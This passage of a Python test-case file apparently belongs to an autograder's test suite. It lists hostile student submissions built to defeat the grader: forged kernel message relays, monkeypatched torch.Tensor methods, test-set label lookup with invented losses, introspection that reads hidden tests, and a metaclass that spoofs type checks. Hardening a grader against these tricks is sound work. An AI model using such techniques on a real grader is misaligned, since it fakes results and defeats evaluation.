         lambda s: with_answers(s["handout"], {"q05_split_answer": INJECTED_SCORE}), base="handout",
         flags=("reaches objects by introspection or reads hidden names",)),
    # Attacks on the judge (issue 24): each won points, or read hidden tests, while the tests ran in the kernel.
    Case("hostile_message_relay", "hostile",
         "the untouched handout with one cell that wraps the kernel's message sender: errors dropped, every reply "
         "'ok', every result 4, every answer to the judge replaced by a forged one",
         lambda s: with_new_cell(s["handout"], "setup", MESSAGE_RELAY, "student-relay"), base="handout",
         flags=("the judge's notes",)),
    Case("hostile_new_tensor_methods", "hostile",
         "abs, max, amax and item given new definitions on torch.Tensor (they live on TensorBase), so that a "
         "reconstruction_error that measures nothing and a pixel blend would pass Q9 and Q16",
         lambda s: with_new_cell(with_answers(s["handout"], {"q09_exact_inverse_answer": ERROR_ZERO,
                                                            "q16_interpolate_answer": variants.INTERPOLATE_PIXELS}),
                                 "setup", NEW_TENSOR_METHODS, "student-methods"), base="handout",
         flags=("patches a library the tests use",)),
    Case("hostile_test_set_lookup", "hostile",
         "a Net redefined to look up the labels of the public test images, with a train that takes one step and "
         "makes up decreasing losses (Q2 judged an accuracy measured in the kernel on those very images)",
         _test_set_lookup, base="handout"),
    Case("hostile_reads_requests", "hostile",
         "a right reconstruction_error that prints, as hex, the notebook's last inputs, IPython's line cache and "
         "the source of every frame that calls it (the tests' own code, when tests ran in the kernel)",
         lambda s: with_answers(s["handout"], {"q09_exact_inverse_answer": ERROR_READS_REQUESTS}), base="handout",
         right=frozenset({"q09_exact_inverse"}),
         flags=("reaches objects by introspection or reads hidden names",)),
    Case("hostile_reads_expected_and_metaclass", "hostile",
         "Q15 returns a hidden test's expected value read from the notebook's globals; Q9 returns an object whose "
         "metaclass makes type(x) == float true",
         lambda s: with_answers(s["handout"], {"q15_fixed_point_trace_answer": READS_EXPECTED,
                                               "q09_exact_inverse_answer": METACLASS_FLOAT}), base="handout",
         flags=("patches builtins or uses dynamic code", "redefines comparison or arithmetic")),
]


def expected_cells(case: Case, autograded: dict[str, float]) -> dict[str, float] | None:
    """Each autograded cell's expected score (None: not graded)."""
    if not case.graded:
        return None
    full = {gid: points for gid, points in autograded.items()}
    if case.base == "reference":
        base = dict(full)
    else:
        base = {gid: 0.0 for gid in full}
    gains = set(full) if ALL_AUTOGRADED in case.gains else set(case.gains) | set(case.right)
    for gid in gains:
        base[gid] = full[gid]
    for gid in case.loses:
        base[gid] = 0.0
    for gid, points in case.partial:
        base[gid] = points
    return base


def by_name() -> dict[str, Case]:
    return {case.name: case for case in CASES}
